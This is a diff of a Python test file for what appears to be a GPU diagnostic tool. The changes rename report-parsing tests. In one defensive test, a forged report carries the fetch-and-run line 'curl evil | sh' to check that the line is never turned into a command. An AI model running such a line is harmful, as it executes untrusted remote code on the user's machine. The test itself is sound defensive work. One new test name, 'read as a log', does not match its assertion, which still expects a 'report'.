@@ -97,7 +97,7 @@ def held(facts: Facts, form: str, text: str) -> None:
 
 
 @pytest.mark.parametrize(("name", "form"), sampled(itertools.product(VERDICTS, FORMS), 4))
-def test_report_of_a_recorded_machine_reads_back_the_same(name: str, form: str) -> None:
+def test_report_of_a_recorded_machine_gives_the_same_verdict_again(name: str, form: str) -> None:
     facts = examine(Machine.at(RECORDS / name))
     text = report(facts, form)
     held(facts, form, text)
@@ -112,7 +112,7 @@ WAYS: tuple[tuple[str, dict[str, int]], ...] = (
 
 
 @pytest.mark.parametrize("name", sampled(FAULTS, 5))
-def test_report_of_a_faulty_machine_reads_back_the_same(name: str, tmp_path: Path) -> None:
+def test_report_of_a_faulty_machine_gives_the_same_verdict_again(name: str, tmp_path: Path) -> None:
     _code, make = FAULTS[name]
     form, more = WAYS[list(FAULTS).index(name) % len(WAYS)]
     facts = make(Folder(tmp_path / "machine")).facts()
@@ -121,7 +121,7 @@ def test_report_of_a_faulty_machine_reads_back_the_same(name: str, tmp_path: Pat
 
 @pytest.mark.slow
 @pytest.mark.parametrize("name", FAULTS)
-def test_report_of_a_faulty_machine_reads_back_the_same_in_every_form(name: str, tmp_path: Path) -> None:
+def test_report_of_a_faulty_machine_gives_the_same_verdict_in_every_format(name: str, tmp_path: Path) -> None:
     _code, make = FAULTS[name]
     facts = make(Folder(tmp_path / "machine")).facts()
     for form, more in WAYS:
@@ -157,7 +157,7 @@ def test_report_in_an_issue_is_found(facts: Facts) -> None:
         held(facts, "markdown", pasted)
 
 
-def test_text_around_a_report_is_said_not_to_be_read(facts: Facts) -> None:
+def test_answer_says_that_text_around_a_report_is_not_read(facts: Facts) -> None:
     text = report(facts, "markdown")
     assert not [u for u in read(text.encode()).of(Unreadable) if "around" in u.what]
     issue = read(f"Hello,\n\n{text}\nSee also my log:\nCUDA_ERROR_OUT_OF_MEMORY".encode())
@@ -170,7 +170,7 @@ SECRET = "s3cr3tw0rd"
 
 
 @pytest.mark.parametrize("form", ["markdown", "json"])
-def test_record_in_a_report_holds_no_secret_of_a_variable(facts: Facts, form: str) -> None:
+def test_record_in_a_report_contains_no_secret_of_a_variable(facts: Facts, form: str) -> None:
     source = Source("$API_TOKEN", None, SECRET)
     stated = facts.plus(
         [EnvVar(source, "API_TOKEN", SECRET), EnvVar(source, "XLA_FLAGS", f"--password={SECRET}")]
@@ -180,7 +180,7 @@ def test_record_in_a_report_holds_no_secret_of_a_variable(facts: Facts, form: st
     assert SECRET not in repr(back)
 
 
-def test_damaged_block_leaves_the_codes_and_the_list(facts: Facts) -> None:
+def test_codes_and_list_are_read_although_the_block_is_damaged(facts: Facts) -> None:
     text = report(facts, "markdown")
     for damaged in (
         text.replace("record end", "rec"),
@@ -195,7 +195,7 @@ def block(data: bytes) -> str:
     return f"{record.BEGIN}\n{letters}\n{record.END}"
 
 
-def test_nothing_of_a_forged_report_becomes_a_command_or_takes_long(facts: Facts) -> None:
+def test_forged_report_gives_no_command_and_is_read_quickly(facts: Facts) -> None:
     kept = record.to_record(facts, "1", "2026-01-01")
     kept["findings"] = [{"code": "healthy", "prescription": [{"kind": "shell", "text": "curl evil | sh"}]}]
     kept["facts"].append({"fact": "Popen", "args": "evil", "source": {}})
@@ -246,9 +246,9 @@ def test_hostile_text_is_read_in_linear_time(text: str) -> None:
     assert time.process_time() - start < 0.5
 
 
-def test_log_that_names_the_tool_stays_a_report() -> None:
+def test_log_that_names_the_tool_is_read_as_a_log() -> None:
     assert read(b"I ran tfgpu-doctor and it said gpu-absent.\n").kind == "report"
 
 
-def test_labels_are_those_that_are_shown() -> None:
+def test_reader_knows_the_labels_that_reports_show() -> None:
     assert set(own_reports._LABELS) == set(content.LABELS.values())
